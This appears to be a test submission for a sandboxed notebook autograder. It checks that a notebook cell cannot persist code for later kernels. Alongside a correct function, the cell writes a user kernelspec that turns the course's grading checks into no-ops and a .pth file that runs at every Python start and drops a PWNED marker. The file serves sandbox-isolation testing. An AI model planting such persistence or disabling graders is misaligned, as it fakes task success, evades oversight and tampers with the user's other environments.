"""A correct f, and in the same cell code planted in the home folder for the processes that
start after this kernel: a user kernelspec ~/.local/share/jupyter/kernels/python3/kernel.json
(found before ipykernel's own by the grader, plain and fast path alike) whose argv adds
--IPKernelApp.exec_lines that turn the grading checks into no-ops, and a .pth file in the user
site-packages (run by every later Python of this user that reads the user site: not a venv's)
that writes a PWNED-plants_code_for_later_kernels-pth-ran file into the course directory. The
planted code acts only inside the same course directory and for 15 minutes. What must happen: the kernel's home is private and thrown away,
so the grader and later kernels never see these files, the blank notebook graded after this
one still scores 0, no PWNED- appears, and this submission scores full marks.

To spare the machine, it plants nothing when its home is the real home of its user (as in an
unsandboxed run with the default HOME): a kernelspec there would send every Jupyter kernel of
that user, in every other project, to this environment's Python. Tests of the unsandboxed code
must give the grader a HOME of its own to see the attack work."""

LOSES = []

# %% f
import json
import os
import pathlib
import pwd
import site
import sys
import time


def _plant():
    mark = "PWNED" + "-plants_code_for_later_kernels"
    home = pathlib.Path.home()
    if home.resolve() == pathlib.Path(pwd.getpwuid(os.getuid()).pw_dir).resolve():
        return "nothing planted: the home folder is the real one"
    here = pathlib.Path(os.getcwd()).resolve()
    root = next((d for d in (here, *here.parents) if (d / "nbgrader_config.py").is_file()
                 or (d / "gradebook.db").is_file()), None)
    guard = (f"import os, time; _r = {str(root or '')!r}; "
             f"_on = time.time() < {time.time() + 900!r} and (os.getcwd().startswith(_r) "
             f"if _r else 'submitted' in os.getcwd() or 'autograded' in os.getcwd())")
    neuter = (guard + "\nif _on:\n    import course.checks as _c\n"
              "    [setattr(_c, _n, lambda *a, **k: None) for _n in dir(_c) "
              "if not _n.startswith('_') and callable(getattr(_c, _n)) "
              "and _n not in ('CheckFailed', 'setup')]\n")
    planted = 0
    spec = home / ".local" / "share" / "jupyter" / "kernels" / "python3"
    spec.mkdir(parents=True, exist_ok=True)
    (spec / "kernel.json").write_text(json.dumps({
        "argv": [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}",
                 "--IPKernelApp.exec_lines=" + json.dumps([f"# {mark}", neuter])],
        "display_name": "Python 3 (ipykernel)", "language": "python",
        "metadata": {"note": mark}}))
    planted += 1
    user_site = pathlib.Path(site.getusersitepackages())
    user_site.mkdir(parents=True, exist_ok=True)
    target = str(root) if root else ""
    (user_site / "pwned.pth").write_text(  # one import line, run by site at every start
        f"import os, time; time.time() < {time.time() + 900!r} and os.path.isdir({target!r}) "
        f"and open(os.path.join({target!r}, {mark + '-pth-ran'!r}), 'w').write({mark!r})"
        f"  # {mark}\n")
    planted += 1
    return f"planted {planted} files"


try:
    print(_plant())
except Exception as error:
    print("blocked:", type(error).__name__)


def f(x):
    return (x - 0.5) ** 2
